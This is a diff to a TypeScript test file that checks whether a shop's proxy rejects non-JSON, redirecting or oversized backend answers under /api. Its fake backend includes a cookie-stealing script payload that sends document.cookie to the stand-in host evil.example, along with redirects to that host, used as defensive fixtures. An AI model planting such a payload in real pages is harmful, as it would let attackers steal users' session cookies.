@@ -9,6 +9,7 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { backendPathGuard } from '../../server/backend-paths.ts';
 import {
   BACKEND_DOWN,
+  BACKEND_ODD,
   backendProxy,
   type BackendProxyOptions,
   PROXY_TIMEOUT_MS,
@@ -205,6 +206,85 @@ describe('/media hands out pictures and PDFs only', () => {
     expect(answer.headers['content-type']).toBe('text/plain; charset=utf-8');
     expect(answer.headers.location).toBeUndefined();
     expect(answer.body).toBe('Не найдено');
+  });
+});
+
+/** /api answers that are no JSON, lead elsewhere or are too large, and two that pass. */
+function oddAnswers(req: IncomingMessage, res: ServerResponse): void {
+  const url = req.url ?? '';
+  const { port } = req.socket.address() as { port: number };
+  const script = '<script>fetch("https://evil.example/?c=" + document.cookie)</script>';
+  const odd: Record<string, () => void> = {
+    '/api/t/x.html': () => res.writeHead(200, { 'Content-Type': 'text/html' }).end(script),
+    '/api/t/x.js': () =>
+      res.writeHead(200, { 'Content-Type': 'application/javascript' }).end('alert(1)'),
+    '/api/t/untyped': () => res.end(script),
+    '/api/t/two': () =>
+      res.writeHead(200, { 'Content-Type': 'application/json, text/html' }).end(script),
+    '/api/t/not-json': () => res.writeHead(200, { 'Content-Type': 'application/json' }).end(script),
+    '/api/t/away': () =>
+      res.writeHead(302, { Location: 'https://evil.example/api/catalog/basket' }).end(),
+    '/api/t/away-307': () => res.writeHead(307, { Location: '//evil.example/api/x' }).end(),
+    '/api/t/out-of-api': () => res.writeHead(301, { Location: '/admin/' }).end(),
+    '/api/t/declared-large': () =>
+      res
+        .writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': 4096 })
+        .end(`[${'0,'.repeat(2047)}0]`),
+    '/api/t/streamed-large': () => {
+      res.writeHead(200, { 'Content-Type': 'application/json' });
+      // Sent in pieces, with no length said: counted as it comes.
+      const piece = `${'1,'.repeat(500)}`;
+      res.write('[');
+      for (let i = 0; i < 8; i += 1) res.write(piece);
+      res.end('1]');
+    },
+    '/api/t/inside': () =>
+      res.writeHead(301, { Location: `http://127.0.0.1:${port}/api/auth/user/me/?a=1` }).end(),
+    '/api/t/small': () =>
+      res.writeHead(200, { 'Content-Type': 'application/json; charset=utf-8' }).end('[1,2,3]'),
+    '/api/t/removed': () => res.writeHead(204).end(),
+  };
+  (odd[url] ?? (() => res.writeHead(404).end()))();
+}
+
+describe('/api passes JSON only, of a bounded size', () => {
+  it.each([
+    ['/api/t/x.html', 'a page whose script would read the cookies'],
+    ['/api/t/x.js', 'a script'],
+    ['/api/t/untyped', 'no Content-Type, which a browser would sniff'],
+    ['/api/t/two', 'two types'],
+    ['/api/t/not-json', 'HTML that says it is JSON'],
+    ['/api/t/away', 'a redirect to another site'],
+    ['/api/t/away-307', 'a 307 to another site, by a scheme-relative address'],
+    ['/api/t/out-of-api', 'a redirect out of /api'],
+    ['/api/t/declared-large', 'an answer whose length is over the cap'],
+    ['/api/t/streamed-large', 'an answer that grows over the cap as it streams'],
+  ])("%s (%s) is the shop's own JSON error, 502", async (path) => {
+    const api = await backend(oddAnswers);
+    const shop = await shopInFront(api.url, { maxAnswerBytes: 2048 });
+    const answer = await rawGet(shop.url, path);
+    expect(answer.status).toBe(502);
+    expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
+    expect(answer.headers['x-content-type-options']).toBe('nosniff');
+    expect(answer.headers.location).toBeUndefined();
+    expect(JSON.parse(answer.body)).toEqual({ detail: BACKEND_ODD });
+  });
+
+  it('a redirect within /api goes on as a path of the shop', async () => {
+    const api = await backend(oddAnswers);
+    const shop = await shopInFront(api.url, { maxAnswerBytes: 2048 });
+    const answer = await rawGet(shop.url, '/api/t/inside');
+    expect(answer.status).toBe(301);
+    expect(answer.headers.location).toBe('/api/auth/user/me/?a=1');
+  });
+
+  it('JSON under the cap, and a removal without a body, pass', async () => {
+    const api = await backend(oddAnswers);
+    const shop = await shopInFront(api.url, { maxAnswerBytes: 2048 });
+    const small = await rawGet(shop.url, '/api/t/small');
+    expect(small.status).toBe(200);
+    expect(JSON.parse(small.body)).toEqual([1, 2, 3]);
+    expect((await rawGet(shop.url, '/api/t/removed')).status).toBe(204);
   });
 });
 
